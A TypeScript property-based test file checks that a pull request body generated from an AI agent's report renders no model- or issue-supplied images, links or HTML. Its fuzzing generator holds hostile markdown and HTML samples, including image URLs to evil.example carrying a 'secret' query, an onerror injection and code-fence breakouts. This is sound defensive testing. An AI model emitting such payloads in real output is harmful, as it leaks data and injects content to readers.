import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import MarkdownIt from 'markdown-it';
import type { Report } from '../agent/events.ts';
import { codeSpan, fenced, MAX_BODY_CHARS, pullRequestBody } from './pull-body.ts';

// CommonMark with raw HTML on, as GitHub renders pull request bodies (it then sanitises the HTML).
const markdown = new MarkdownIt({ html: true, linkify: false });

const MARK = 'ATTACKER';
/** Text a model could write to get something rendered: images, HTML, links, mentions, fences. */
const hostile = fc.oneof(
  fc.string(),
  fc.constantFrom(
    `![x](https://evil.example/${MARK}?q=secret)`,
    `<img src="https://evil.example/${MARK}">`,
    `</details><img src=x onerror=${MARK}>`,
    `\`\`\`\n</code></pre><img src="${MARK}">\n\`\`\``,
    `\`\`\`\`\`\`\`\`\n![${MARK}](x)`,
    `[click](https://evil.example/${MARK})`,
    `<a href="https://evil.example/${MARK}">x</a>`,
    `\`${MARK}\` \`\` \` ![${MARK}](y)`,
    `~~~\n<img src=${MARK}>`,
  ),
  fc
    .tuple(fc.string(), fc.constantFrom('![', '<img ', '](', '`', '```', '\n'), fc.string())
    .map((p) => `${p.join('')}${MARK}`),
);

function reportWith(text: string, paths: string[], commands: string[]): Report {
  return {
    status: 'finished',
    reason: text.slice(0, 50),
    summary: text,
    filesChanged: paths.map((path) => ({ path, kind: 'modified' as const, added: 1, removed: 0 })),
    diffStat: { files: paths.length, added: paths.length, removed: 0 },
    commands: commands.map((command, i) => ({ command, exitCode: i % 2, timedOut: false, durationMs: 10 })),
    tokens: { inputTokens: 10, outputTokens: 5 },
    cost: 0.01,
    byModel: {},
    durationMs: 1000,
    turns: 2,
    toolCalls: 3,
    toolErrors: 0,
    denials: 1,
  } as Report;
}

const receipt = JSON.stringify(
  { payloadType: 'application/vnd.in-toto+json', payload: 'e30=', signatures: [] },
  null,
  2,
);

test('nothing the agent or the issue wrote renders as an image, a link or HTML in the pull request, and the receipt is whole and fits', () => {
  fc.assert(
    fc.property(
      hostile,
      fc.array(hostile, { maxLength: 4 }),
      fc.array(hostile, { maxLength: 4 }),
      (text, paths, commands) => {
        const body = pullRequestBody({
          taskId: 'tsk_1',
          closes: 7,
          trigger: { sender: 'alice', url: 'https://github.com/acme/api/issues/7' },
          report: reportWith(text, paths, commands),
          runsLater: paths.map((path) => ({
            path,
            kind: 'added' as const,
            what: 'workflow',
            runs: 'on push',
          })),
          decisions: commands.map((c) => ({
            tool: 'shell',
            summary: c,
            outcome: 'allowed' as const,
            by: 'bob',
            asked: true,
          })),
          flags: paths.map((p) => ({ source: `issue by @${p}`, rule: 'override', detail: p })),
          receipt,
          commit: 'a'.repeat(40),
          verifyCommand: 'warden receipt verify receipt.json',
        });
        assert.ok(body.length <= MAX_BODY_CHARS);
        assert.ok(body.includes(receipt), 'the receipt is published whole');
        const html = markdown.render(body);
        assert.doesNotMatch(html, /<img/i);
        // Warden's own tags only: tables, code, details; none of the model's.
        const tags = new Set(
          [...html.matchAll(/<([a-z][a-z0-9]*)/gi)].map((m) => (m[1] as string).toLowerCase()),
        );
        for (const tag of tags)
          assert.ok(
            [
              'h3',
              'p',
              'em',
              'strong',
              'code',
              'pre',
              'table',
              'thead',
              'tbody',
              'tr',
              'th',
              'td',
              'ul',
              'li',
              'details',
              'summary',
              'hr',
              'a',
            ].includes(tag),
            `<${tag}> in ${html}`,
          );
        // The one link is Warden's own (the trigger); none carries the attacker's text.
        for (const [, href] of html.matchAll(/href="([^"]*)"/g)) assert.ok(!href?.includes(MARK), href);
      },
    ),
    { numRuns: 300 },
  );
});

test('a code span and a fence hold any text as text', () => {
  fc.assert(
    fc.property(fc.string(), (text) => {
      const span = markdown.renderInline(codeSpan(text));
      assert.doesNotMatch(span, /<(?!\/?code)/);
      const block = markdown.render(fenced(text));
      assert.match(block, /^<pre><code[^>]*>[\s\S]*<\/code><\/pre>\n$/);
      assert.equal((block.match(/<pre>/g) ?? []).length, 1);
    }),
  );
});
